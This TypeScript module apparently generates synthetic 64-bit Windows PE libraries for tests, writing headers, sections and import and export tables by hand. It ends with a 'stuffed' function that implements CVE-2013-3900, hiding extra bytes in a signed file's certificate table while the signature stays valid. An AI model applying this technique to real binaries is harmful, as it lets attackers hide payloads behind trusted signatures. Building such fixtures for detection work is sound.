/** What a small 64-bit Windows library is made of. */
export interface PeParts {
  /** Library → names imported from it. */
  readonly imports: Readonly<Record<string, readonly string[]>>
  readonly exports?: readonly string[]
  readonly name: string
  /** Code: any bytes. */
  readonly text: Buffer
  /** Constants: strings as ASCII or UTF-16 as they come. */
  readonly data: Buffer
}

const sectionAlignment = 0x1000
const fileAlignment = 0x200
const base = 0x180000000n

/** A library that a loader would map (Microsoft PE format, sections "Optional Header" to ".edata"); its code is never run. */
export function writePe({ imports, exports = [], name, text, data }: PeParts): Buffer {
  const rvaOf = (index: number, lengths: readonly number[]) =>
    lengths.slice(0, index).reduce((at, length) => at + align(length, sectionAlignment), sectionAlignment)
  const rdataAt = rvaOf(1, [text.length])
  const importPart = importTable(imports, rdataAt)
  const exportPart = exportTable(exports, name, rdataAt + importPart.length)
  const rdata = Buffer.concat([importPart, exportPart])
  const sections = [
    { name: '.text', bytes: text, flags: 0x60000020 },
    { name: '.rdata', bytes: rdata, flags: 0x40000040 },
    { name: '.data', bytes: data, flags: 0xc0000040 },
  ]
  const lengths = sections.map(({ bytes }) => bytes.length)
  const header = Buffer.alloc(0x400)
  header.write('MZ', 0)
  header.writeUInt32LE(0x80, 0x3c)
  header.write('PE\0\0', 0x80, 'latin1')
  header.writeUInt16LE(0x8664, 0x84)
  header.writeUInt16LE(sections.length, 0x86)
  header.writeUInt32LE(0x63000000, 0x88)
  header.writeUInt16LE(240, 0x94)
  header.writeUInt16LE(0x2022, 0x96)
  const optional = 0x98
  header.writeUInt16LE(0x20b, optional)
  header.writeUInt32LE(align(text.length, fileAlignment), optional + 4)
  header.writeUInt32LE(sectionAlignment, optional + 16)
  header.writeUInt32LE(sectionAlignment, optional + 20)
  header.writeBigUInt64LE(base, optional + 24)
  header.writeUInt32LE(sectionAlignment, optional + 32)
  header.writeUInt32LE(fileAlignment, optional + 36)
  header.writeUInt16LE(6, optional + 40)
  header.writeUInt16LE(6, optional + 48)
  header.writeUInt32LE(rvaOf(sections.length, lengths), optional + 56)
  header.writeUInt32LE(header.length, optional + 60)
  header.writeUInt16LE(3, optional + 68)
  header.writeUInt16LE(0x160, optional + 70)
  header.writeUInt32LE(16, optional + 108)
  if (exports.length > 0) header.writeUInt32LE(rdataAt + importPart.length, optional + 112)
  if (exports.length > 0) header.writeUInt32LE(exportPart.length, optional + 116)
  header.writeUInt32LE(rdataAt, optional + 120)
  header.writeUInt32LE((Object.keys(imports).length + 1) * 20, optional + 124)
  let offset = header.length
  for (const [index, { name: section, bytes, flags }] of sections.entries()) {
    const at = optional + 240 + 40 * index
    header.write(section, at, 'latin1')
    header.writeUInt32LE(bytes.length, at + 8)
    header.writeUInt32LE(rvaOf(index, lengths), at + 12)
    header.writeUInt32LE(align(bytes.length, fileAlignment), at + 16)
    header.writeUInt32LE(offset, at + 20)
    header.writeUInt32LE(flags, at + 36)
    offset += align(bytes.length, fileAlignment)
  }
  return Buffer.concat([header, ...sections.map(({ bytes }) => Buffer.concat([bytes, Buffer.alloc(align(bytes.length, fileAlignment) - bytes.length)]))])
}

function importTable(imports: PeParts['imports'], at: number): Buffer {
  const libraries = Object.entries(imports)
  const directory = Buffer.alloc((libraries.length + 1) * 20)
  const parts: Buffer[] = [directory]
  let next = at + directory.length
  const place = (bytes: Buffer): number => {
    const here = next
    const padded = Buffer.concat([bytes, Buffer.alloc(align(bytes.length, 8) - bytes.length)])
    parts.push(padded)
    next += padded.length
    return here
  }
  for (const [index, [library, names]] of libraries.entries()) {
    const hints = names.map((symbol) => place(Buffer.concat([Buffer.alloc(2), Buffer.from(`${symbol}\0`)])))
    const thunks = Buffer.alloc((hints.length + 1) * 8)
    for (const [each, hint] of hints.entries()) thunks.writeUInt32LE(hint, 8 * each)
    const lookUp = place(thunks)
    directory.writeUInt32LE(lookUp, 20 * index)
    directory.writeUInt32LE(place(Buffer.from(`${library}\0`)), 20 * index + 12)
    directory.writeUInt32LE(place(thunks), 20 * index + 16)
  }
  return Buffer.concat(parts)
}

function exportTable(exports: readonly string[], name: string, at: number): Buffer {
  if (exports.length === 0) return Buffer.alloc(0)
  const sorted = [...exports].sort()
  const head = Buffer.alloc(40)
  const [functions, names, ordinals] = [Buffer.alloc(4 * sorted.length), Buffer.alloc(4 * sorted.length), Buffer.alloc(2 * sorted.length)]
  let text = at + 40 + functions.length + names.length + ordinals.length
  const strings: Buffer[] = []
  for (const [index, symbol] of [name, ...sorted].entries()) {
    if (index === 0) head.writeUInt32LE(text, 12)
    else {
      names.writeUInt32LE(text, 4 * (index - 1))
      functions.writeUInt32LE(sectionAlignment + 16 * index, 4 * (index - 1))
      ordinals.writeUInt16LE(index - 1, 2 * (index - 1))
    }
    strings.push(Buffer.from(`${symbol}\0`))
    text += symbol.length + 1
  }
  head.writeUInt32LE(1, 16)
  head.writeUInt32LE(sorted.length, 20)
  head.writeUInt32LE(sorted.length, 24)
  head.writeUInt32LE(at + 40, 28)
  head.writeUInt32LE(at + 40 + functions.length, 32)
  head.writeUInt32LE(at + 40 + functions.length + names.length, 36)
  return Buffer.concat([head, functions, names, ordinals, ...strings])
}

function align(value: number, to: number): number {
  return Math.ceil(value / to) * to
}

/** Where the certificate table of a signed file lies: data directory 4, which gives a file offset. */
function certificateDirectory(file: Buffer): number {
  const header = file.readUInt32LE(0x3c)
  return header + 24 + (file.readUInt16LE(header + 24) === 0x20b ? 112 : 96) + 32
}

/**
 * The file with bytes hidden behind the signature inside its certificate table: the table and its one entry grow, the
 * signed digest covers neither, so the signature stays valid (CVE-2013-3900).
 */
export function stuffed(file: Buffer, hidden: Buffer): Buffer {
  const directory = certificateDirectory(file)
  const [at, size] = [file.readUInt32LE(directory), file.readUInt32LE(directory + 4)]
  if (at === 0 || at + size !== file.length) throw new Error('the file has no certificate table at its end')
  const padded = Buffer.concat([hidden, Buffer.alloc(align(hidden.length, 8) - hidden.length)])
  const grown = Buffer.concat([file, padded])
  grown.writeUInt32LE(size + padded.length, directory + 4)
  grown.writeUInt32LE(grown.readUInt32LE(at) + padded.length, at)
  return grown
}
